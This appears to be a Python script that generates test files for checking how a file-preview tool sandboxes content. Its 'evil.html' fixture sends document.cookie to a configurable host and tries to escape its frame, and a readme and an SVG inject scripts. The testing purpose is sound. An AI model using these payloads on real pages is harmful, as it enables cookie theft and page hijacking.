"""Keeps a file of every kind there is a preview of, with Python's own libraries only.

sys.argv: a server that the pages of this stranger try to reach, and how many small files to make.
"""

import base64
import json
import math
import os
import pathlib
import struct
import sys
import wave
import zipfile
import zlib

home = sys.argv[1] if len(sys.argv) > 1 else "http://127.0.0.1:9"
out = pathlib.Path("outputs")
for folder in ("checkpoints/best", "pages", "tables", "many"):
    (out / folder).mkdir(parents=True, exist_ok=True)


def png(width, height):
    rows = b""
    for y in range(height):
        row = ((x * 255 // width, y * 255 // height, 160) for x in range(width))
        rows += b"\0" + bytes(value for pixel in row for value in pixel)
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = (b"IHDR", head), (b"IDAT", zlib.compress(rows)), (b"IEND", b"")
    made = b"\x89PNG\r\n\x1a\n"
    for kind, data in parts:
        made += struct.pack(">I", len(data)) + kind + data
        made += struct.pack(">I", zlib.crc32(kind + data))
    return made


picture = png(320, 200)
(out / "picture.png").write_bytes(picture)
(out / "notes.txt").write_text(
    "".join(f"line {n} of the notes, with a needle here and there\n" for n in range(1, 21))
)
(out / "long.txt").write_text(
    "".join(f"{n:06} this is a long text that comes in parts\n" for n in range(1, 20001))
)
settings = {
    "lr": 0.1,
    "big": 12345678901234567890,
    "odd": float("nan"),
    "none": None,
    "layers": [{"size": 64, "name": "first"}, {"size": 32, "name": "second"}],
    "deep": {"a": {"b": {"c": {"d": [1, 2, 3]}}}},
    "text": "<b>not bold</b>",
}
(out / "settings.json").write_text(json.dumps(settings))
(out / "broken.json").write_text('{"a": 1,\n "b": }')
(out / "config.yaml").write_text("# how it was trained\nmodel:\n  layers: 3\n  name: 'small'\n")
(out / "tables/scores.csv").write_text(
    "id,name,score\n" + "".join(f'{n},"row, {n}",{math.sin(n):.3f}\n' for n in range(1, 1001))
)
(out / "tables/semicolons.csv").write_text("a;b\n1;x,y\n2;z\n")
(out / "readme.md").write_text("""# Results

Some **bold** words, a [link](https://example.org/), a [bad one](javascript:alert(1)).

| metric | value |
|---|---|
| loss | 0.12 |

```python
print(1)
```

<script>window.top.wasHere = 1</script>

![a chart](http://127.0.0.1:9/x.png)
""")
evil = """<!doctype html><html><head><title>x</title><link rel="preconnect" href="HOME">
<link rel="stylesheet" href="HOME/link.css"><link rel="prefetch" href="HOME/prefetch">
<meta http-equiv="refresh" content="0; url=HOME/refresh"><base href="HOME/base/">
<style>@import url(HOME/import.css); body { background: url(HOME/css.png) }</style></head>
<body onload="document.title='ran'"><h1 id="seen">A page of a script</h1>
<script>
document.getElementById("seen").textContent = "SCRIPTS RUN";
fetch("HOME/fetch?" + document.cookie);
new WebSocket("HOME/socket".replace("http", "ws"));
navigator.sendBeacon("HOME/beacon");
top.location = "HOME/top";
parent.document.title = "ran";
</script>
<img src="HOME/img.png" onerror="top.wasHere = 1"><iframe src="HOME/frame"></iframe>
<form action="HOME/form" method="post" target="_top"><button id="send">send</button></form>
<a id="up" href="HOME/up" target="_top">up</a> <a id="away" href="HOME/away">away</a>
<a id="pop" href="HOME/pop" target="_blank">pop</a> <a id="ping" ping="HOME/ping" href="#x">x</a>
<video src="HOME/video" autoplay></video><object data="HOME/object"></object>
<embed src="HOME/embed"><svg><image href="HOME/svg.png"/></svg></body></html>
""".replace("HOME", home)
(out / "pages/evil.html").write_text(evil)
svg = """<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">
<script>top.wasHere = 1</script><image href="HOME/svg.png" width="9" height="9"/>
<rect id="bar" width="120" height="60" fill="teal" onclick="top.wasHere = 1"/></svg>"""
(out / "pages/chart.svg").write_text(svg.replace("HOME", home))
framed = "<table><tr><td id='cell'>of a frame</td></tr></table><script>top.wasHere = 1</script>"


def code(source, **output):
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "source": source,
        "outputs": [output],
    }


cells = [
    {"cell_type": "markdown", "metadata": {}, "source": ["# A notebook\n", "with *words*"]},
    code("import math\nprint(math.pi)", output_type="stream", name="stdout", text=["3.14159\n"]),
    code(
        "plot()",
        output_type="display_data",
        data={"image/png": base64.b64encode(picture).decode(), "text/plain": "a plot"},
    ),
    code("frame", output_type="execute_result", data={"text/html": framed, "text/plain": "frame"}),
    code(
        "1/0",
        output_type="error",
        ename="ZeroDivisionError",
        evalue="division by zero",
        traceback=["\x1b[0;31mZeroDivisionError\x1b[0m: division by zero"],
    ),
]
notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}
(out / "notebook.ipynb").write_text(json.dumps(notebook))


def npy(descr, shape, data, order=False):
    head = repr({"descr": descr, "fortran_order": order, "shape": shape})
    head = head + " " * (63 - (len(head) + 10) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head.encode() + data


(out / "weights.npy").write_bytes(npy("<f4", (3, 4), struct.pack("<12f", *range(12))))
with zipfile.ZipFile(str(out / "arrays.npz"), "w") as archive:
    archive.writestr("first.npy", npy("<i8", (5,), struct.pack("<5q", 1, 2, 3, 4, 5)))
    archive.writestr("objects.npy", npy("|O", (1,), b"\x80\x04N."))
with wave.open(str(out / "tone.wav"), "wb") as sound:
    sound.setparams((1, 2, 8000, 0, "NONE", ""))
    sound.writeframes(b"".join(struct.pack("<h", int(9000 * math.sin(n / 5))) for n in range(8000)))
(out / "paper.pdf").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n")
(out / "checkpoints/best/model.pkl").write_bytes(b"\x80\x04\x95" + bytes(range(256)) * 40)
(out / "checkpoints/1.pt").write_bytes(b"\0" * 5000)
(out / "empty.txt").write_bytes(b"")
for number in range(int(sys.argv[2]) if len(sys.argv) > 2 else 0):
    (out / "many" / f"{number:05}.txt").write_text(str(number))
print("made", len(os.listdir("outputs")))
